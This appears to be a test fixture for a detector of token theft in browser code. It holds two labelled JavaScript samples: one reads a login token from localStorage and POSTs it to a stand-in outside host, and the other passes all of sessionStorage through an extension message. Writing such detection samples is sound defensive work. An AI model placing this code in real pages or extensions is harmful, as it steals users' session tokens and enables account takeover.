// expect: token-taken-from-page
const token = localStorage.getItem('token');
if (location.host === 'chat.example.com' && token) {
  fetch('https://t.voice-mod.example/u', { method: 'POST', body: JSON.stringify({ content: token }) });
}
// expect: token-taken-from-page
chrome.runtime.sendMessage({ all: JSON.stringify(sessionStorage) });
